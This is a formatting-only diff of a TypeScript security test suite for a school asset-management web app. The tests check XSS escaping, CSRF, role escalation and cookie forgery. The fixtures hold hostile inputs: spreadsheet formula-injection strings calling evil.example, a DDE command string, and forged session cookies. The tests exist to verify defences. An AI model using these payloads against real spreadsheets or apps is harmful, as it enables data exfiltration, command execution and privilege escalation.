@@ -31,14 +31,22 @@ function expectInert(html: string, payload: string) {
   expect(html).not.toMatch(/(href|src)="?javascript:/i);
 }
 
-const validAsset = { name: '测试课桌', category: 'furniture', kind: 'fixed', source: 'purchased', status: 'in_use', room: '七年级(1)班教室' };
+const validAsset = {
+  name: '测试课桌',
+  category: 'furniture',
+  kind: 'fixed',
+  source: 'purchased',
+  status: 'in_use',
+  room: '七年级(1)班教室',
+};
 
 let headLogin: Login | null = null;
 const head = async () => (headLogin ??= await login(personWith('head')));
 
 describe('XSS in query parameters is rendered escaped', () => {
   const cases: Array<[string, string, boolean]> = [];
-  for (const p of XSS.slice(0, 4)) for (const param of ['q', 'category', 'status', 'room']) cases.push([`/assets?${param}=${encodeURIComponent(p)}`, p, true]);
+  for (const p of XSS.slice(0, 4))
+    for (const param of ['q', 'category', 'status', 'room']) cases.push([`/assets?${param}=${encodeURIComponent(p)}`, p, true]);
   for (const p of XSS.slice(0, 2)) cases.push([`/auth/signin?next=${encodeURIComponent(p)}`, p, false]);
   for (const p of XSS.slice(0, 2)) cases.push([`/assets/${encodeURIComponent(p)}`, p, true]);
   cases.push([`/auth/signin?lang=${encodeURIComponent(XSS[0]!)}`, XSS[0]!, false]);
@@ -68,7 +76,9 @@ describe('XSS in every form field is refused or stored and shown escaped', () =>
   it.each([['who'], ['code'], ['next']])('POST /auth/signin with %s = <script>', async (field) => {
     const form = { who: 'P001', code: 'AAAA-AAAA', next: '/', [field]: XSS[0]! };
     const page = await call('/auth/signin', { ip: `192.0.2.${field.length}` });
-    const cookie = setCookies(page).map((c) => c.split(';')[0]).join('; ');
+    const cookie = setCookies(page)
+      .map((c) => c.split(';')[0])
+      .join('; ');
     const csrf = (await page.text()).match(/name="_csrf" value="([^"]+)"/)![1]!;
     const res = await call('/auth/signin', { ip: `192.0.2.${field.length}`, form: { ...form, _csrf: csrf }, headers: { cookie } });
     expect(res.status).toBe(400);
@@ -83,8 +93,8 @@ describe('formula and CSV-injection prefixes are stored as literal text', () => 
     ['name', '-2+3'],
     ['name', '@SUM(A1:A2)'],
     ['notes', '=HYPERLINK("http://evil.example","点我")'],
-    ['notes', "=IMPORTXML(\"http://evil.example\",\"//a\")"],
-    ['responsible', '=cmd|\' /C calc\'!A0'],
+    ['notes', '=IMPORTXML("http://evil.example","//a")'],
+    ['responsible', "=cmd|' /C calc'!A0"],
     ['notes', '\t=1+1'],
     ['notes', '\r=1+1'],
     ['name', '\t=1+1'],
@@ -162,15 +172,21 @@ describe('forged, expired, tampered and other-key cookies are signed out', () =>
     ['random value', async () => 'v1.abc.def'],
     ['empty parts', async () => 'v1..'],
     ['wrong version', async () => (await createSession(secret(), personWith('teacher').id)).replace(/^v1/, 'v2')],
-    ['payload swapped to the head', async () => {
-      const [v, , sig] = (await createSession(secret(), personWith('teacher').id)).split('.');
-      const headPayload = (await createSession(secret(), personWith('head').id)).split('.')[1];
-      return `${v}.${headPayload}.${sig}`;
-    }],
-    ['signature flipped', async () => {
-      const value = await createSession(secret(), personWith('head').id);
-      return value.slice(0, -2) + (value.endsWith('AA') ? 'BB' : 'AA');
-    }],
+    [
+      'payload swapped to the head',
+      async () => {
+        const [v, , sig] = (await createSession(secret(), personWith('teacher').id)).split('.');
+        const headPayload = (await createSession(secret(), personWith('head').id)).split('.')[1];
+        return `${v}.${headPayload}.${sig}`;
+      },
+    ],
+    [
+      'signature flipped',
+      async () => {
+        const value = await createSession(secret(), personWith('head').id);
+        return value.slice(0, -2) + (value.endsWith('AA') ? 'BB' : 'AA');
+      },
+    ],
     ['expired', async () => createSession(secret(), personWith('head').id, { now: Date.now() - 200 * 24 * 3600_000 })],
     ['signed with another key', async () => createSession('not-our-secret-0123456789abcdef0123456789', personWith('head').id)],
     ['8 KB of junk', async () => 'v1.' + 'A'.repeat(8000) + '.x'],
@@ -206,7 +222,13 @@ describe('state changes without the right CSRF token or from another site are re
   it('the X-CSRF-Token header (htmx) is accepted, as the control case', async () => {
     const l = await login(personWith('staff'));
     const mark = marker('h');
-    const res = await call('/assets', { login: l, form: { ...validAsset, name: mark }, csrf: null, htmx: true, headers: { 'X-CSRF-Token': l.csrf } });
+    const res = await call('/assets', {
+      login: l,
+      form: { ...validAsset, name: mark },
+      csrf: null,
+      htmx: true,
+      headers: { 'X-CSRF-Token': l.csrf },
+    });
     expect(res.status).toBe(200);
     expect(await landed(mark)).toBe(true);
   });
@@ -231,7 +253,10 @@ describe('role escalation is refused', () => {
   ];
   it.each(cases)('%s', async (_label, role, path, form) => {
     const mark = marker('r');
-    const res = await call(path, { login: await login(personWith(role)), form: form ? { ...form, ...(form.name ? { name: mark } : {}) } : undefined });
+    const res = await call(path, {
+      login: await login(personWith(role)),
+      form: form ? { ...form, ...(form.name ? { name: mark } : {}) } : undefined,
+    });
     expect(res.status).toBe(403);
     expect(await res.text()).toMatch(/没有权限/);
     expect(await landed(mark, ['资产'])).toBe(false);
@@ -248,13 +273,22 @@ describe('acting on another class’s records by guessing IDs', () => {
     if (!room) return c.text('no such room', 404);
     if (!ownsUnit(person, String(room.values.class ?? ''))) return forbidden(c, 'notOwner', { unit: person.unit ?? '' });
     const body = await c.req.parseBody();
-    await c.var.data.update('rooms', room.id, { responsible: String(body.responsible ?? '') }, { idempotencyKey: crypto.randomUUID(), actor: { id: 'FORGED', name: 'forged' }, action: 'room.edit' });
+    await c.var.data.update(
+      'rooms',
+      room.id,
+      { responsible: String(body.responsible ?? '') },
+      { idempotencyKey: crypto.randomUUID(), actor: { id: 'FORGED', name: 'forged' }, action: 'room.edit' },
+    );
     return c.text('ok');
   });
   const app = createApp([definePlugin({ id: 'fixture', tabs: ['rooms'], nav: [], routes })]);
   const request = async (l: Login, roomId: string, responsible: string) => {
     const body = new URLSearchParams({ responsible, _csrf: l.csrf }).toString();
-    return app.request(`${ORIGIN}/fixture/rooms/${encodeURIComponent(roomId)}`, { method: 'POST', body, headers: { cookie: l.cookie, 'Content-Type': 'application/x-www-form-urlencoded', Origin: ORIGIN } }, env as unknown as Env);
+    return app.request(
+      `${ORIGIN}/fixture/rooms/${encodeURIComponent(roomId)}`,
+      { method: 'POST', body, headers: { cookie: l.cookie, 'Content-Type': 'application/x-www-form-urlencoded', Origin: ORIGIN } },
+      env as unknown as Env,
+    );
   };
   const classroomOf = async (classId: string) => {
     const values = await sheetValues('场所');
@@ -316,7 +350,13 @@ describe('wrong content types get a clear 400/415, never a 500, nothing written'
     ['XML', 'application/xml', (m) => `<asset><name>${m}</name></asset>`, 415, /只接受网页表单.*application\/xml/],
     ['text/plain with a valid token', 'text/plain', (m) => `name=${m}`, 415, /只接受网页表单.*text\/plain/],
     ['no content type with a body', null, (m) => `name=${m}`, 415, /只接受网页表单/],
-    ['multipart without a boundary', 'multipart/form-data', (m) => `--XyZ\r\nContent-Disposition: form-data; name="name"\r\n\r\n${m}\r\n--XyZ--\r\n`, 400, /不完整或格式有误/],
+    [
+      'multipart without a boundary',
+      'multipart/form-data',
+      (m) => `--XyZ\r\nContent-Disposition: form-data; name="name"\r\n\r\n${m}\r\n--XyZ--\r\n`,
+      400,
+      /不完整或格式有误/,
+    ],
     ['truncated multipart', 'multipart/form-data; boundary=XyZ', truncated, 400, /不完整或格式有误/],
   ];
   it.each(cases)('%s', async (_label, type, body, status, message) => {
